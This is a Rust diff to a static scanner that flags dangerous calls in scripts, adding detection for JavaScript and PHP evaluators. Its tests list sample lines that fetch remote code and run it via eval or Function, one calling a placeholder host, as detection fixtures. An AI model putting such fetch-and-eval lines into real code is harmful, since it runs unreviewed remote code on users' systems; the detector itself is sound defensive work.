@@ -753,6 +753,7 @@ fn table(lang: Lang) -> &'static [(&'static str, Kind)] {
         ],
         Lang::Js => &[
             ("eval", Exec),
+            ("Function", Exec),
             ("execSync", Shell),
             ("exec", Shell),
             ("spawnSync", ProgramList),
@@ -788,6 +789,7 @@ fn table(lang: Lang) -> &'static [(&'static str, Kind)] {
             ("readdir", Walk),
         ],
         Lang::Php => &[
+            ("eval", Exec),
             ("system", Shell),
             ("exec", Shell),
             ("shell_exec", Shell),
@@ -943,6 +945,10 @@ fn calls(lang: Lang, code: &str) -> Vec<Effect> {
     if lang == Lang::Awk {
         awk_pipes(&src, &masked, &mut out);
     }
+    if evaluator_passed(lang, &masked) {
+        // `.then(eval)`, `[…].map(Function)`: it runs whatever it is given.
+        out.push(Effect::Dynamic);
+    }
     let names = table(lang);
     // Trees the code lists or walks, and whether it deletes paths nobody can
     // name (the walk's entries): then it deletes everything in those trees.
@@ -1054,6 +1060,27 @@ fn calls(lang: Lang, code: &str) -> Vec<Effect> {
     out
 }
 
+/// Is an evaluator (`eval`, `Function`) handed on as a value rather than
+/// called (`fetch(u).then(r => r.text()).then(eval)`)? Whatever reaches it
+/// runs, and nobody can read it beforehand.
+fn evaluator_passed(lang: Lang, masked: &[char]) -> bool {
+    if lang != Lang::Js {
+        return false;
+    }
+    let text: String = masked.iter().collect();
+    ["eval", "Function"].iter().any(|name| {
+        text.match_indices(name).any(|(at, _)| {
+            let before = text[..at].trim_end();
+            let after = text[at + name.len()..].trim_start();
+            let word = !text[..at].ends_with(|c: char| is_ident(c) || c == '.')
+                && !text[at + name.len()..].starts_with(|c: char| is_ident(c));
+            let ends = after.is_empty() || after.starts_with([')', ',', ';', ']', '}']);
+            word && ends
+                && (before.ends_with(['(', ',', '=', ':', '?']) || before.ends_with("return"))
+        })
+    })
+}
+
 /// The expression a method is called on (`Path(p).rglob` → `Path(p)`), when
 /// the name at `k` follows a `.`.
 fn receiver(src: &[char], masked: &[char], k: usize) -> Option<String> {
@@ -1136,7 +1163,12 @@ fn reads_a_file(expr: &str) -> bool {
         expr.match_indices(call)
             .any(|(at, _)| !expr[..at].chars().next_back().is_some_and(is_ident))
     };
+    let url = ["http://", "https://", "ftp://", "php://", "data:"]
+        .iter()
+        .any(|u| expr.contains(u));
     (named("open(") && !expr.contains("URI.open(")) || named("read_text(")
+        // PHP's file_get_contents of a path, not of an address.
+        || (named("file_get_contents(") && !url)
 }
 
 fn call(lang: Lang, name: &str, kind: Kind, args: &[String], out: &mut Vec<Effect>) {
@@ -1682,6 +1714,32 @@ mod tests {
             ("print(eval('2+3'))", false),
         ] {
             let got = scan(Lang::Python, code).contains(&Effect::Dynamic);
+            assert_eq!(got, dynamic, "{code}");
+        }
+        for (lang, code, dynamic) in [
+            (Lang::Js, "fetch(u).then(r => r.text()).then(eval)", true),
+            (
+                Lang::Js,
+                "fetch(u).then(r=>r.text()).then(t=>Function(t)())",
+                true,
+            ),
+            (Lang::Js, "const run = eval; run(x)", true),
+            (Lang::Js, "new Function('return 1')()", false),
+            (Lang::Js, "console.log(Function.prototype.toString)", false),
+            (
+                Lang::Js,
+                "fetch(u).then(r => r.text()).then(console.log)",
+                false,
+            ),
+            (
+                Lang::Php,
+                "eval(file_get_contents('https://x.example.net/p.php'));",
+                true,
+            ),
+            (Lang::Php, "eval(file_get_contents('setup.php'));", false),
+            (Lang::Php, "eval('echo 1;');", false),
+        ] {
+            let got = scan(lang, code).contains(&Effect::Dynamic);
             assert_eq!(got, dynamic, "{code}");
         }
         assert_eq!(
